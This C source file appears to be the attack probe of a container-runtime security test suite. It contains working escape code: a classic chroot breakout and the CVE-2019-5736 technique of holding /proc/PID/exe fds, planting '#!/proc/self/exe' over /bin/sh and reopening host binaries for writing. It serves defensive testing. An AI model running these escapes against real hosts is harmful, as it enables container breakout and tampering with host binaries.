/*
 * probe: the attacker of the security suite, compiled static by helpers.ts and shipped in a
 * test image as /probe. Every subcommand prints one result per line (`key value ...`) for
 * the test to assert on. It never writes to a file it did not create itself, except the
 * shim copy whose identity the test passes in (`watch --victim DEV:INO`): for any other
 * host file it only proves that it *could* write (open O_WRONLY, close, nothing written).
 *
 *   probe fds                      open fds of this process (the listing's own fd excluded)
 *   probe cwd                      getcwd(), or the error that says it is outside the root
 *   probe open-w PATH...           open(PATH, O_WRONLY) then close: "ok" or the errno name
 *   probe open-r PATH...           open(PATH, O_RDONLY) and read one byte
 *   probe chroot-escape MARKER CANARY
 *                                  the classic chroot(2) breakout; says what it can see after
 *   probe watch STOPFILE [--victim DEV:INO] [--canary-name N] [--canary-path P] [--sh-script]
 *                                  CVE-2019-5736: grab /proc/PID/exe of every new process,
 *                                  keep the fds, and once the helpers are gone, write to them
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static const char *errname(int e)
{
	switch (e) {
	case 0: return "ok";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	case ENOTDIR: return "ENOTDIR";
	case ESRCH: return "ESRCH";
	case EINVAL: return "EINVAL";
	case EBADF: return "EBADF";
	case ENXIO: return "ENXIO";
	case EISDIR: return "EISDIR";
	case ENODEV: return "ENODEV";
	case ELOOP: return "ELOOP";
	default: {
		static char buf[32];
		snprintf(buf, sizeof buf, "errno%d", e);
		return buf;
	}
	}
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (d == NULL) {
		printf("error opendir %s\n", errname(errno));
		return 1;
	}
	int self = dirfd(d);
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		int fd = atoi(e->d_name);
		if (fd == self)
			continue;
		char path[64], target[PATH_MAX];
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("fd %d %s\n", fd, n < 0 ? errname(errno) : target);
	}
	closedir(d);
	return 0;
}

static int cmd_cwd(void)
{
	char buf[PATH_MAX];
	if (getcwd(buf, sizeof buf) == NULL)
		printf("cwd-error %s\n", errname(errno));
	else
		printf("cwd %s\n", buf);
	return 0;
}

static int cmd_open(int argc, char **argv, int flags)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], flags | O_CLOEXEC);
		int e = fd < 0 ? errno : 0;
		if (fd >= 0 && flags == O_RDONLY) {
			char c;
			ssize_t n = read(fd, &c, 1);
			printf("open %s ok read %zd%s%s\n", argv[i], n, n < 0 ? " " : "", n < 0 ? errname(errno) : "");
		} else {
			printf("open %s %s\n", argv[i], errname(e));
		}
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static bool exists(const char *p)
{
	struct stat st;
	return lstat(p, &st) == 0;
}

static int cmd_chroot_escape(const char *marker, const char *canary)
{
	(void)mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		printf("chroot-jail %s\n", errname(errno));
		return 1;
	}
	/* cwd is still the old root, outside the new one: climb as far as the kernel lets us */
	for (int i = 0; i < 256; i++)
		(void)chdir("..");
	if (chroot(".") < 0) {
		printf("chroot-dot %s\n", errname(errno));
		return 1;
	}
	(void)chdir("/");
	printf("marker %s\n", exists(marker) ? "visible" : "absent");
	printf("canary %s\n", exists(canary) ? "visible" : "absent");
	printf("jail %s\n", exists("/tmp/jail") ? "visible" : "absent");
	return 0;
}

/* ---- CVE-2019-5736 ------------------------------------------------------------------------ */

#define MAX_KEPT 4096
#define MAX_PIDS 65536

struct kept {
	int pid, fd;
	dev_t dev;
	ino_t ino;
	char link[256];
};

static struct kept kept[MAX_KEPT];
static int n_kept;
static unsigned char seen[MAX_PIDS], leaked[MAX_PIDS];
static int n_pids, exe_ok, exe_err[256], leaks;

static bool already_kept(int pid, dev_t dev, ino_t ino)
{
	for (int i = 0; i < n_kept; i++)
		if (kept[i].pid == pid && kept[i].dev == dev && kept[i].ino == ino)
			return true;
	return false;
}

static void grab(int pid, const char *canary_name, const char *canary_path)
{
	char p[PATH_MAX];
	if (pid <= 0 || pid >= MAX_PIDS)
		return;
	if (!seen[pid]) {
		seen[pid] = 1;
		n_pids++;
	}
	/* first (the window is short): a helper whose cwd or root is on the host would show the host's canary through /proc */
	if (canary_name && !leaked[pid]) {
		snprintf(p, sizeof p, "/proc/%d/cwd/%s", pid, canary_name);
		if (exists(p)) {
			printf("leak cwd pid %d\n", pid);
			leaked[pid] = 1;
			leaks++;
		}
	}
	if (canary_path && !leaked[pid]) {
		snprintf(p, sizeof p, "/proc/%d/root%s", pid, canary_path);
		if (exists(p)) {
			printf("leak root pid %d\n", pid);
			leaked[pid] = 1;
			leaks++;
		}
	}
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno < 256)
			exe_err[errno]++;
	} else {
		struct stat st;
		if (fstat(fd, &st) == 0 && n_kept < MAX_KEPT && !already_kept(pid, st.st_dev, st.st_ino)) {
			struct kept *k = &kept[n_kept++];
			k->pid = pid;
			k->fd = fd;
			k->dev = st.st_dev;
			k->ino = st.st_ino;
			ssize_t n = readlink(p, k->link, sizeof k->link - 1);
			k->link[n < 0 ? 0 : n] = '\0';
			exe_ok++;
			/* the helper is still running: a direct write must fail too (ETXTBSY at least) */
			int w = open(p, O_WRONLY | O_CLOEXEC);
			printf("capture pid %d dev %lu ino %lu exe %s direct-open-w %s\n", pid, (unsigned long)st.st_dev,
			       (unsigned long)st.st_ino, k->link, w < 0 ? errname(errno) : "ok");
			if (w >= 0)
				close(w);
		} else {
			close(fd);
		}
	}
}

static const char EVIL[] = "#!/proc/self/exe\n";

static void plant_scripts(void)
{
	/* the exec'd binary and /bin/sh become scripts that make the helper re-exec itself */
	const char *paths[] = { "/evil", "/bin/sh" };
	for (size_t i = 0; i < 2; i++) {
		(void)unlink(paths[i]);
		int fd = open(paths[i], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
		if (fd < 0 || write(fd, EVIL, sizeof EVIL - 1) != (ssize_t)(sizeof EVIL - 1)) {
			printf("plant %s %s\n", paths[i], errname(errno));
			exit(1);
		}
		close(fd);
	}
}

static int cmd_watch(int argc, char **argv)
{
	const char *stop = argv[0], *canary_name = NULL, *canary_path = NULL;
	unsigned long victim_dev = 0, victim_ino = 0;
	bool have_victim = false;
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--victim") == 0 && i + 1 < argc) {
			have_victim = sscanf(argv[++i], "%lu:%lu", &victim_dev, &victim_ino) == 2;
		} else if (strcmp(argv[i], "--canary-name") == 0 && i + 1 < argc) {
			canary_name = argv[++i];
		} else if (strcmp(argv[i], "--canary-path") == 0 && i + 1 < argc) {
			canary_path = argv[++i];
		} else if (strcmp(argv[i], "--plant") == 0) {
			plant_scripts();
		}
	}
	int self = getpid();
	struct stat own;
	/* the container's own executables: writing them is no escape (and would break the test) */
	struct stat bb, probe;
	bool have_bb = stat("/bin/busybox", &bb) == 0, have_probe = stat("/probe", &probe) == 0;
	(void)own;
	printf("ready pid %d\n", self);
	fflush(stdout);
	(void)close(creat("/tmp/watch-ready", 0644));
	int maxpid = self;
	/* A short pause per round: a helper's pid lives on through its execs (nsenter's child
	 * becomes the shim, which becomes the command) for milliseconds, while a pure busy loop
	 * would take a whole CPU from the execs being watched. */
	const struct timespec pause = { 0, 200 * 1000 };
	while (!exists(stop)) {
		(void)nanosleep(&pause, NULL);
		/* the next pids first: an exec's helpers get them in order */
		for (int p = maxpid + 1; p <= maxpid + 3; p++)
			if (p != self)
				grab(p, canary_name, canary_path);
		DIR *d = opendir("/proc");
		if (d == NULL)
			continue;
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			int pid = atoi(e->d_name);
			if (pid == self || pid == 1)
				continue;
			if (pid > maxpid)
				maxpid = pid;
			grab(pid, canary_name, canary_path);
		}
		closedir(d);
	}
	/* the helpers are gone: reopen what we kept, for writing */
	int writes_ok = 0, host_files = 0;
	for (int i = 0; i < n_kept; i++) {
		struct kept *k = &kept[i];
		if ((have_bb && k->dev == bb.st_dev && k->ino == bb.st_ino) ||
		    (have_probe && k->dev == probe.st_dev && k->ino == probe.st_ino))
			continue;
		host_files++;
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", k->fd);
		bool victim = have_victim && k->dev == victim_dev && k->ino == victim_ino;
		int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
		int e = w < 0 ? errno : 0;
		const char *what = errname(e);
		if (w >= 0) {
			/* only the test's own copy of the shim is ever written; for any other host
			 * file the open alone proves the escape */
			if (victim && write(w, "PWNED", 5) == 5)
				what = "WRITTEN";
			else
				what = "OPENED-FOR-WRITE";
			writes_ok++;
			close(w);
		}
		printf("reopen pid %d dev %lu ino %lu exe %s victim %d result %s\n", k->pid, (unsigned long)k->dev,
		       (unsigned long)k->ino, k->link, victim, what);
	}
	printf("summary pids %d exe-opened %d exe-eacces %d exe-enoent %d exe-esrch %d host-files %d writable %d leaks %d\n",
	       n_pids, exe_ok, exe_err[EACCES], exe_err[ENOENT], exe_err[ESRCH], host_files, writes_ok, leaks);
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: probe fds|cwd|open-w|open-r|chroot-escape|watch ...\n");
		return 2;
	}
	const char *c = argv[1];
	if (strcmp(c, "fds") == 0)
		return cmd_fds();
	if (strcmp(c, "cwd") == 0)
		return cmd_cwd();
	if (strcmp(c, "open-w") == 0)
		return cmd_open(argc - 2, argv + 2, O_WRONLY);
	if (strcmp(c, "open-r") == 0)
		return cmd_open(argc - 2, argv + 2, O_RDONLY);
	if (strcmp(c, "chroot-escape") == 0 && argc == 4)
		return cmd_chroot_escape(argv[2], argv[3]);
	if (strcmp(c, "watch") == 0 && argc >= 3)
		return cmd_watch(argc - 2, argv + 2);
	fprintf(stderr, "probe: bad arguments\n");
	return 2;
}
